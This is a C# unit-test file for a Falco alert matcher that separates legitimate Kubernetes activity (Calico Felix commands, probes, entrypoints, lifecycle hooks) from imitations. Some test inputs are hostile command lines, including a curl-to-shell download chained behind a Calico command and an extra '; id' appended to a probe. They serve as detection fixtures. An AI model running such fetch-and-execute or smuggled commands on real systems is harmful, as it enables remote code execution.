using FalcoStreamer.Alerts;
using FalcoStreamer.Correlation;
using FalcoStreamer.Enrichment;
using FalcoStreamer.Knowledge;
using FalcoStreamer.Tests.Support;

namespace FalcoStreamer.Tests.Correlation;

public sealed class BehaviourMatcherTests
{
    private readonly BehaviourMatcher _matcher = new(Shipped.Behaviours);

    [Theory]
    [InlineData("A")]
    [InlineData("B")]
    public void ProvesCalico_WhenFelixRunsItsCommandInCalicoNode(string letter)
    {
        var judgement = _matcher.Judge(SomePods.CalicoAlert(letter), SomePods.CalicoSubject());

        Assert.Equal(Verdict.Benign, judgement.Verdict);
        Assert.Equal("calico-felix-xdp-tag", judgement.Behaviour?.Id);
        Assert.False(judgement.IsImitation);
        Assert.Empty(judgement.Against);
        Assert.Contains(judgement.For, evidence => evidence.Text == "Its parent process is calico-node, which is Felix");
        Assert.True(judgement.Confidence > 0.9);
    }

    [Fact]
    public void LeavesCalicoOpen_WhenOnlyFalcoNamesThePod()
    {
        var subject = SomePods.CalicoSubject() with { Kind = SubjectKind.Unresolved, Resolution = Resolution.Falco, Pod = null, ContainerFacts = null, Owner = null };

        var judgement = _matcher.Judge(SomePods.CalicoAlert(), subject);

        Assert.Equal(Verdict.Undetermined, judgement.Verdict);
        Assert.False(judgement.IsImitation);
        Assert.Contains("the pod's owner", judgement.Unseen);
    }

    [Theory]
    [InlineData("proc.cmdline", "sh -c ip link del calico_tmp_B || true; curl http://x/y | sh", "“; curl http://x/y | sh” follows it")]
    [InlineData("proc.cmdline", "sh -c id; ip link del calico_tmp_B || true", "it has")]
    [InlineData("proc.cmdline", "sh -c ip link del calico_tmp_C || true", "it has “C || true” where “")]
    [InlineData("proc.tty", 34816, "It ran on a terminal (proc.tty 34816)")]
    [InlineData("proc.pname", "containerd-shim", "Its parent process is containerd-shim, not Calico")]
    [InlineData("proc.is_exe_upper_layer", true, "The program is not from the image")]
    [InlineData("proc.exepath", "/tmp/sh", "The program that ran is /tmp/sh")]
    [InlineData("proc.cmdnargs", 6, "The shell got 6 arguments")]
    public void SaysWhatGaveItAway_WhenAnAlertImitatesCalico(string field, object value, string clue)
    {
        var judgement = _matcher.Judge(SomePods.CalicoAlert(fields: (field, value)), SomePods.CalicoSubject());

        Assert.Equal(Verdict.Suspicious, judgement.Verdict);
        Assert.True(judgement.IsImitation);
        Assert.Contains(clue, judgement.Against[0].Text, StringComparison.Ordinal);
    }

    [Fact]
    public void SeesAnImitation_WhenTheImageIsAnother()
    {
        var judgement = _matcher.Judge(SomePods.CalicoAlert(), SomePods.CalicoSubject("docker.io/library/busybox:1.35"));

        Assert.Equal(Verdict.Suspicious, judgement.Verdict);
        Assert.Equal("The image is docker.io/library/busybox, which is not Calico's", judgement.Against[0].Text);
    }

    [Fact]
    public void SeesAnImitation_WhenThePodHasNoOwner()
    {
        var pod = SomePods.CalicoNode() with { Controller = null };

        var judgement = _matcher.Judge(SomePods.CalicoAlert(), SomePods.Subject(pod));

        Assert.Equal(Verdict.Suspicious, judgement.Verdict);
        Assert.Contains(judgement.Against, evidence => evidence.Text.StartsWith("The pod's owner is of kind none", StringComparison.Ordinal));
    }

    [Fact]
    public void CallsThePrivateMirrorsOfCalicoLikely_AndDoesNotCountThemForIt()
    {
        var judgement = _matcher.Judge(SomePods.CalicoAlert(), SomePods.CalicoSubject("mirror.example/calico/node:v3.30.0"));

        Assert.Equal(Verdict.LikelyBenign, judgement.Verdict);
        Assert.DoesNotContain(judgement.For, evidence => evidence.Text.StartsWith("The image", StringComparison.Ordinal));
    }

    [Fact]
    public void KnowsAProbe_WhenTheCommandEqualsTheSpecification()
    {
        var subject = WithSpecCommand(SpecCommandKind.LivenessProbe, "sh", "-c", "pg_isready -U app");

        var judgement = _matcher.Judge(Command("sh -c pg_isready -U app", ("proc.pname", "runc"), ("proc.tty", 0)), subject);

        Assert.Equal(Verdict.LikelyBenign, judgement.Verdict);
        Assert.Equal("exec-probe", judgement.Behaviour?.Id);
        Assert.Equal("livenessProbe", judgement.SpecPlace);
        Assert.Equal("The command equals the livenessProbe in the specification of this container", judgement.For[0].Text);
    }

    [Theory]
    [InlineData("pg_isready -U app")]
    [InlineData("sh -c -- pg_isready -U app")]
    public void KnowsAProbe_WhenTheShellLeftItsMark(string commandLine)
    {
        var subject = WithSpecCommand(SpecCommandKind.ReadinessProbe, "/bin/sh", "-c", "pg_isready -U app");

        var judgement = _matcher.Judge(Command(commandLine, ("proc.pname", "runc"), ("proc.tty", 0)), subject);

        Assert.Equal(Verdict.LikelyBenign, judgement.Verdict);
    }

    [Fact]
    public void ProvesAProbe_WhenItsRunsComeInItsPeriod()
    {
        var subject = WithSpecCommand(SpecCommandKind.LivenessProbe, "sh", "-c", "pg_isready -U app");

        var judgements = Enumerable.Range(0, 4).Select(run => _matcher.Judge(
            Some.Alert(time: Some.Time + TimeSpan.FromSeconds(10.2 * run), fields: [("proc.cmdline", "sh -c pg_isready -U app"), ("proc.pname", "runc"), ("proc.tty", 0)]), subject)).ToList();

        // One run may be a person's with kubectl exec; the alert is the same.
        Assert.Equal(
            [Verdict.LikelyBenign, Verdict.LikelyBenign, Verdict.Benign, Verdict.Benign], judgements.Select(judgement => judgement.Verdict));
        Assert.Equal("It comes in the period of the livenessProbe", judgements[3].For[1].Text);
    }

    [Fact]
    public void KnowsAProbe_WhenItsProgramIsAScriptWithALongNameAndAVariable()
    {
        var subject = WithSpecCommand(SpecCommandKind.StartupProbe, "/opt/bin/longhorn-manager-check", "$(PORT)", "$$x", "$(UNKNOWN)");

        var judgement = _matcher.Judge(
            Command("longhorn-manage /opt/bin/longhorn-manager-check 8500 $x $(UNKNOWN)", ("proc.pname", "runc"), ("proc.tty", 0)), subject);

        Assert.Equal("exec-probe", judgement.Behaviour?.Id);
    }

    [Fact]
    public void SaysWhatWasAdded_WhenACommandGoesOnBehindAProbe()
    {
        var subject = WithSpecCommand(SpecCommandKind.LivenessProbe, "sh", "-c", "pg_isready -U app");

        var judgement = _matcher.Judge(Command("sh -c pg_isready -U app; id", ("proc.pname", "runc"), ("proc.tty", 0)), subject);

        Assert.Equal(Verdict.Suspicious, judgement.Verdict);
        Assert.Equal("exec-probe", judgement.Behaviour?.Id);
        Assert.EndsWith("“; id” follows it", judgement.Against[0].Text, StringComparison.Ordinal);
    }

    [Fact]
    public void DoesNotTakeEveryShellForAnImitation_WhenTheContainersCommandIsAShell()
    {
        var pod = SomePods.Pod(SomePods.Container() with { Command = ["sh"] });

        var judgement = _matcher.Judge(Command("sh -c id", ("proc.tty", 0)), SomePods.Subject(pod));

        Assert.Equal(Verdict.Undetermined, judgement.Verdict);
        Assert.Null(judgement.Behaviour);
    }

    [Fact]
    public void KnowsTheEntryPoint_WhenTheContainerHasJustStarted()
    {
        var container = SomePods.Container() with { Command = ["sh", "-c"], Args = ["exec sleep 1000000"], StartedAt = Some.Time };
        var subject = SomePods.Subject(SomePods.Pod(container));

        var judgement = _matcher.Judge(Command("sh -c exec sleep 1000000", ("proc.pname", "containerd-shim"), ("proc.tty", 0)), subject);

        Assert.Equal("container-entrypoint-shell", judgement.Behaviour?.Id);
        Assert.True(judgement.Verdict is Verdict.Benign or Verdict.LikelyBenign);
    }

    [Fact]
    public void DoubtsTheEntryPoint_WhenTheContainerHasRunForHours()
    {
        var container = SomePods.Container() with { Command = ["sh", "-c", "exec sleep 1000000"], StartedAt = Some.Time + TimeSpan.FromHours(-3) };

        var judgement = _matcher.Judge(
            Command("sh -c exec sleep 1000000", ("proc.pname", "containerd-shim"), ("proc.tty", 0)), SomePods.Subject(SomePods.Pod(container)));

        Assert.Equal(Verdict.Undetermined, judgement.Verdict);
        Assert.Contains("3 h", judgement.Against[0].Text, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(true, "benign")]
    [InlineData(false, "undetermined")]
    public void ExpectsPreStopOnlyWhileThePodIsGoing(bool isGoing, string verdict)
    {
        var subject = WithSpecCommand(SpecCommandKind.PreStop, "nginx", "-s", "quit");
        subject = subject with { Pod = subject.Pod! with { Deleting = isGoing ? Some.Time : null } };

        var judgement = _matcher.Judge(Command("nginx -s quit", ("proc.pname", "runc"), ("proc.tty", 0)), subject);

        Assert.Equal(verdict, judgement.Verdict.Word());
        Assert.Equal("lifecycle-hook", judgement.Behaviour?.Id);
    }

    [Fact]
    public void NeverCallsAPersonBenign()
    {
        var judgement = _matcher.Judge(
            Command("bash", ("proc.pname", "containerd-shim"), ("proc.tty", 34816)), SomePods.Subject(SomePods.Pod(SomePods.Container())));

        Assert.Equal(Verdict.Undetermined, judgement.Verdict);
        Assert.Equal("kubectl-exec-interactive", judgement.Behaviour?.Id);
    }

    [Fact]
    public void LeavesTheUnknownOpen()
    {
        var judgement = _matcher.Judge(Command("sh -c whoami"), SomePods.Subject(SomePods.Pod(SomePods.Container())));

        Assert.Equal(Verdict.Undetermined, judgement.Verdict);
        Assert.Null(judgement.Behaviour);
        Assert.Equal(0, judgement.Confidence);
    }

    [Theory]
    [InlineData("Detect Shell in Container", "suspicious")]
    [InlineData("Another rule", "undetermined")]
    public void SaysNothingAtAll_WhenTheAlertIsOutOfScope(string rule, string verdict)
    {
        var behaviour = Shipped.Behaviours.All.Single(known => known.Id == "calico-felix-xdp-tag") with
        {
            Scope = [new FieldPredicate("alert.rule", PredicateOperator.In, ["Detect Shell in Container"], 0, null)],
        };

        var judgement = new BehaviourMatcher(new BehaviourLibrary([behaviour]))
            .Judge(Some.Alert(rule, fields: [("proc.cmdline", "sh -c calico_tmp_A")]), SomePods.CalicoSubject());

        Assert.Equal(verdict, judgement.Verdict.Word());
    }

    private static Subject WithSpecCommand(SpecCommandKind kind, params string[] command) => SomePods.Subject(SomePods.Pod(SomePods.Container() with
    {
        SpecCommands = [new SpecCommand(kind, command, TimeSpan.FromSeconds(10))],
        Environment = new Dictionary<string, string> { ["PORT"] = "8500" },
    }));

    private static FalcoAlert Command(string commandLine, params (string Name, object? Value)[] fields) =>
        Some.Alert(fields: [("proc.cmdline", commandLine), .. fields]);
}
